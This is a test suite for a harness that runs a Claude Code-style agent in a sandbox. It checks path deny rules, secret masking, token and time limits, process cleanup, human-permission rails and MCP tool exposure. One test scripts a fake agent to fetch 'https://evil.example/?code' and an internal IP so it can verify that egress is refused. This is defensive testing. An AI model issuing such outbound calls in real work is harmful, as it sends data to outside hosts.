import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { blueprintSchema } from '#server/domain/blueprint.ts';
import { AlaiError } from '#server/domain/errors.ts';
import type { McpServerWork } from '#server/domain/mcp.ts';
import { gitLine } from '#server/platform/git.ts';
import { createFactory, type Factory } from '#test/execution.ts';
import { type MemoryPorts, memoryPorts } from '#test/ports.ts';
import { cliAgents } from '../agents/registry.ts';
import { noSandbox } from '../sandbox/none.ts';
import { MODULES } from '../sandbox/sandbox.ts';

/** A program that speaks Claude Code's lines and does what its script says. */
const agent = (script: string) => ({
  find: () => ({
    agent: { ...cliAgents['claude-code'], argv: () => ['-c', script], passes: [] },
    program: '/bin/sh',
    readable: '/bin/sh',
  }),
  given: () => ({}),
});
const says = (event: object) => `printf '%s\\n' '${JSON.stringify(event).replaceAll("'", `'\\''`)}'`;
const usage = { input_tokens: 100, output_tokens: 20 };
const ends = (structured_output?: object) =>
  says({ type: 'result', is_error: false, result: 'It is done. Verdict: pass.', structured_output, usage });
const done = ends({ summary: 'The file is mended.' });

let f: Factory;
beforeAll(async () => {
  f = await createFactory({ 'README.md': '# demo\n', 'src/a.js': 'a\n', 'secret/b.txt': 'b\n' });
});
afterAll(() => f.stop());

const step = (over: object = {}) =>
  blueprintSchema.parse({
    name: 'test',
    steps: [
      {
        key: 'build',
        role: 'builder',
        instructions: 'Mend src/a.js.',
        tools: ['write', 'read', 'finish'],
        paths: { deny: ['secret/**', 'new/**'] },
        ...over,
      },
    ],
  });
async function run(
  script: string,
  o: {
    ports?: MemoryPorts;
    signal?: AbortSignal;
    step?: object;
    rails?: string;
    resume?: MemoryPorts;
    mcp?: McpServerWork[];
  } = {},
) {
  const memory = o.resume?.memories.at(-1);
  const w = await f.work(
    'BUILD',
    { id: 4001, title: 'Mend a' },
    {
      blueprint: step(o.step),
      mcp: o.mcp ?? [],
      model: { provider: 'claude-code', name: 'claude-x', tier: 4, host: 'forge', pipelines: ['claude-cli'] },
      rails: { modes: {}, paths: o.rails ? [{ glob: o.rails, rail: 'mine', reason: 'it is mine' }] : [] },
    },
  );
  const stepId = w.steps[0]?.id ?? 0;
  const answer = { answer: 'approve' as const, by: 'Alem', note: '' };
  const resume = memory ? { stepId, memory: memory.memory, answer } : null;
  return await f.run({ ...w, resume }, o.ports ?? memoryPorts(), o.signal, undefined, agent(script));
}
const fileOf = (r: Awaited<ReturnType<typeof run>>, path: string) =>
  gitLine(['show', `${r.kind === 'done' ? r.commit : 'main'}:${path}`], { gitDir: f.bare });

describe('an agent with a process of its own', () => {
  it('writes with its own tools, and its last object is taken for its word', async () => {
    const r = await run(`cat > /dev/null; echo mended > src/a.js; ${done}`);
    expect(r).toMatchObject({ kind: 'done' });
    expect(await fileOf(r, 'src/a.js')).toBe('mended');
    expect(r.ports.calls).toMatchObject([
      { provider: 'claude-code', tokensIn: 100, tokensOut: 20, ok: true },
    ]);
  });

  it('is given the prompt by its input and no variable of ours', async () => {
    process.env.ALAI_TEST_SECRET = 'hidden';
    const r = await run(`grep -o 'Mend src/a.js.' > told.txt; env | sort >> told.txt; ${done}`);
    expect(r).toMatchObject({ kind: 'done' });
    const told = await fileOf(r, 'told.txt');
    expect(told).toContain('Mend src/a.js.');
    expect(told).toContain('HOME=');
    expect(told).not.toContain('hidden');
    delete process.env.ALAI_TEST_SECRET;
  });

  it('that wrote where it may not has that put back, and the step fails with the reason', async () => {
    const r = await run(`cat > /dev/null; mkdir -p new; echo x > new/c.txt; echo ok > src/a.js; ${done}`);
    expect(r).toMatchObject({ kind: 'failed', code: 'TOOL_REFUSED' });
    expect(r.kind === 'failed' && r.message).toContain('new/c.txt');
    expect(r.kind === 'failed' && r.message).toContain('put back');
  });

  it('decides nothing by prose: without the object it is asked once more, then it failed', async () => {
    const ports = memoryPorts();
    const r = await run(`cat > /dev/null; ${ends()}`, { ports });
    expect(r).toMatchObject({ kind: 'failed', cause: 'model', code: 'MODEL_GARBAGE' });
    expect(ports.calls).toHaveLength(2);
  });

  it('that wants to go elsewhere is refused, and the transcript says where and how often', async (c) => {
    if (f.sandbox.kind !== 'bwrap') return c.skip();
    const go = (url: string) => `node -e 'fetch("${url}").catch(() => {})'`;
    const r = await run(
      `cat > /dev/null; ${go('https://evil.example/?code')}; ${go('https://evil.example/')}; ${go('http://10.0.0.1/')}; ${done}`,
    );
    expect(r).toMatchObject({ kind: 'done' });
    const lines = r.ports.entries.flatMap((e) => (e.kind === 'harness' ? [String(e.data.text)] : []));
    expect(lines.filter((l) => l.includes('wanted to reach evil.example:443'))).toHaveLength(1);
    expect(lines.filter((l) => l.includes('wanted to reach 10.0.0.1:80'))).toHaveLength(1);
    expect(lines).toContain('Refused altogether: evil.example:443 2 times.');
  });

  it('says what is wrong when its key is refused, and when it is busy', async () => {
    const failing = (text: string) =>
      run(
        `cat > /dev/null; ${says({ type: 'result', subtype: 'success', is_error: true, result: text, usage })}; exit 1`,
      );
    expect(await failing('Invalid API key · 401')).toMatchObject({ kind: 'infra', code: 'PROVIDER_KEY' });
    expect(await failing('API Error: 529 overloaded_error')).toMatchObject({
      kind: 'infra',
      code: 'MODEL_BUSY',
    });
  });

  it('that fails with a key in its last words does not spread it', async () => {
    const key = `sk-proj-${'k'.repeat(30)}`;
    const r = await run(`cat > /dev/null; echo "503 overloaded, sent ${key}" >&2; exit 1`);
    expect(r).toMatchObject({ kind: 'infra', code: 'MODEL_BUSY' });
    expect(JSON.stringify(r)).toContain('secret masked');
    expect(JSON.stringify(r)).not.toContain(key);
  });

  it('is stopped by numbers: time, tokens, the same call again and again', async () => {
    const call = says({
      type: 'assistant',
      message: { id: 'm', content: [{ type: 'tool_use', id: 'a', name: 'Bash', input: { command: 'ls' } }] },
    });
    const again = `cat > /dev/null; while true; do ${call}; done`;
    for (const [script, limits, why] of [
      ['sleep 60', { seconds: 1 }, 'after 1 s'],
      [
        `${says({ type: 'assistant', message: { id: 'm', usage, content: [] } })}; sleep 60`,
        { tokens: 50 },
        'after 50 tokens',
      ],
      [again, {}, 'after 5 calls that were all alike'],
    ] as const) {
      const r = await run(script, { step: { limits } });
      expect(r).toMatchObject({ kind: 'failed', cause: 'limit', code: 'LIMIT_REACHED' });
      expect(r.kind === 'failed' && r.message).toContain(why);
    }
  });

  it('is stopped while it runs when no budget covers what it goes on to use, and that is counted', async () => {
    const asked: (number | undefined)[] = [];
    const ports = memoryPorts({
      async beforeCall(c) {
        asked.push(c.used?.tokensCacheRead);
        if ((c.used?.tokensCacheRead ?? 0) < 900_000) return;
        const use = { scope: 'task', key: '1', period: '0001-01-01', limit: 1, spent: 1, reserved: 0 };
        throw new AlaiError('BUDGET_EXCEEDED', 'used up', 'Raise it.', {
          use,
          needs: 1,
          ask: true,
          narrow: true,
        });
      },
    });
    const turn = (id: string) =>
      says({
        type: 'assistant',
        message: { id, usage: { ...usage, cache_read_input_tokens: 500_000 }, content: [] },
      });
    const r = await run(`cat > /dev/null; ${turn('a')}; ${turn('b')}; sleep 60`, { ports });
    expect(r).toMatchObject({ kind: 'yielded', reason: 'budget', short: { narrow: true } });
    expect(asked[0]).toBeUndefined();
    expect(ports.calls).toMatchObject([
      { tokensIn: 200, tokensCacheRead: 1_000_000, ok: false, errorCode: 'BUDGET_EXCEEDED' },
    ]);
  });

  it('dies with its attempt, and everything it started', async () => {
    const stop = new AbortController();
    const mark = `3${process.pid}.125`;
    const ports = memoryPorts({ transcript: (e) => void (e.kind === 'assistant' && stop.abort('stopped')) });
    const text = says({
      type: 'assistant',
      message: { id: 'm', content: [{ type: 'text', text: 'I begin.' }] },
    });
    const r = await run(`cat > /dev/null; (setsid sleep ${mark} &); ${text}; sleep ${mark}`, {
      ports,
      signal: stop.signal,
    });
    expect(r).toMatchObject({ kind: 'yielded', reason: 'stopped' });
    // It did not come to say what it used, and used something all the same.
    expect(ports.calls).toMatchObject([{ ok: false, errorCode: 'ABORTED' }]);
    expect(ports.calls[0]?.tokensIn).toBeGreaterThan(100);
    const left = execFileSync('ps', ['-eo', 'stat=,args='], { encoding: 'utf8' });
    expect(left.split('\n').filter((l) => !l.startsWith('Z') && l.includes(mark))).toEqual([]);
  });

  it('asks the owner about a file that his rail names, and is not run again after his yes', async () => {
    const ports = memoryPorts();
    const asked = await run(`cat > /dev/null; echo mine > src/a.js; ${done}`, { ports, rails: 'src/**' });
    expect(asked).toMatchObject({ kind: 'yielded', reason: 'permission' });
    const r = await run('exit 9', { resume: ports, rails: 'src/**' });
    expect(r).toMatchObject({ kind: 'done' });
    expect(await fileOf(r, 'src/a.js')).toBe('mine');
  });

  describe('that calls our tools by its MCP server', () => {
    const question = 'Which currency do the prices have?';
    /** Speaks to the server as its client would, and writes what it answered into a file of the work. */
    const speak = (...messages: object[]) => {
      const lines = messages.map((m, i) => JSON.stringify({ jsonrpc: '2.0', id: i + 1, ...m }));
      const input = lines.map((l) => `printf '%s\\n' '${l.replaceAll("'", `'\\''`)}'`).join('; ');
      return `{ ${input}; } | ${f.sandbox.tools?.join(' ')} >> answers.txt`;
    };
    const call = (name: string, args: object) => ({
      method: 'tools/call',
      params: { name, arguments: args },
    });
    const ask = call('ask_human', { question, options: ['EUR', 'BAM'] });

    it('is offered the question to the human, and no tool of ours besides', async (c) => {
      if (!f.sandbox.tools) return c.skip();
      const r = await run(
        `cat > /dev/null; ${speak({ method: 'initialize', params: { protocolVersion: '2025-06-18' } }, { method: 'tools/list' }, call('write', { path: 'src/a.js', content: 'x' }), call('ask_human', { question: 'x' }), { method: 'nonsense' })}; ${done}`,
      );
      expect(r).toMatchObject({ kind: 'done' });
      const answers = (await fileOf(r, 'answers.txt')).split('\n').map((l) => JSON.parse(l));
      const of = (id: number) => answers.find((a) => a.id === id);
      expect(of(1).result).toMatchObject({ protocolVersion: '2025-06-18', serverInfo: { name: 'alai' } });
      expect(of(2).result.tools.map((t: { name: string }) => t.name)).toEqual(['ask_human']);
      expect(of(3).result).toMatchObject({
        isError: true,
        content: [{ text: expect.stringContaining('REFUSED') }],
      });
      expect(of(4).result.content[0].text).toContain('wrong arguments');
      expect(of(5).error.code).toBe(-32601);
    });

    it('waits for the human without a process, and goes on with his answer and its files', async (c) => {
      if (!f.sandbox.tools) return c.skip();
      const ports = memoryPorts();
      const text = says({
        type: 'assistant',
        message: { id: 'm', content: [{ type: 'text', text: 'The prices have no currency.' }] },
      });
      const asked = await run(`cat > /dev/null; echo half > src/a.js; ${text}; ${speak(ask)}; sleep 60`, {
        ports,
      });
      expect(asked).toMatchObject({
        kind: 'yielded',
        reason: 'asked',
        question: `${question}\n\n1. EUR\n2. BAM`,
      });
      expect(asked.ports.calls).toMatchObject([{ ok: true, errorCode: null }]);
      const again = `${speak(ask)}; cat src/a.js >> told.txt; ${done}`;
      const r = await run(`cat > told.txt; ${again}`, { resume: ports });
      expect(r).toMatchObject({ kind: 'done' });
      const told = await fileOf(r, 'told.txt');
      expect(told).toContain('The prices have no currency.');
      expect(told).toMatch(/Alem answers:\n<data kind="answer">\nYes\./);
      expect(told).toMatch(/half$/);
      expect(await fileOf(r, 'answers.txt')).toContain('was asked and answered already');
    });

    it('calls those of the company by the same way', async (c) => {
      if (!f.sandbox.tools) return c.skip();
      const args = [`${MODULES}/@modelcontextprotocol/server-everything/dist/index.js`, 'stdio'];
      const server: McpServerWork['server'] = {
        ...{ transport: 'stdio', command: 'node', args, env: [], seconds: 20, max_output: 2_000 },
      };
      const r = await run(
        `cat > told.txt; ${speak(call('mcp__everything__echo', { message: 'hello' }))}; ${done}`,
        { step: { mcp: ['everything'] }, mcp: [{ name: 'everything', server }] },
      );
      expect(r).toMatchObject({ kind: 'done' });
      expect(await fileOf(r, 'told.txt')).toContain('also offers mcp__everything__');
      expect(await fileOf(r, 'answers.txt')).toContain('hello');
      expect(r.ports.entries.map((e) => e.data.name)).toContain('mcp__everything__echo');
    });

    it('also where its network is open', async (c) => {
      if (!f.sandbox.tools) return c.skip();
      const asked = await run(`cat > /dev/null; ${speak(ask)}; sleep 60`, { step: { network: true } });
      expect(asked).toMatchObject({ kind: 'yielded', reason: 'asked' });
    });
  });

  it('asks first where the machine has no sandbox', async () => {
    const bare = await createFactory({ 'README.md': '# demo\n' }, { sandbox: noSandbox });
    const w = await bare.work('BUILD', {}, { blueprint: step() });
    const model = { ...w.model, provider: 'claude-code' as const, pipelines: ['claude-cli' as const] };
    const project = { ...w.project, unsandboxedAllowed: false };
    expect(await bare.run({ ...w, model, project })).toMatchObject({ kind: 'yielded', reason: 'consent' });
    await bare.stop();
  });
});
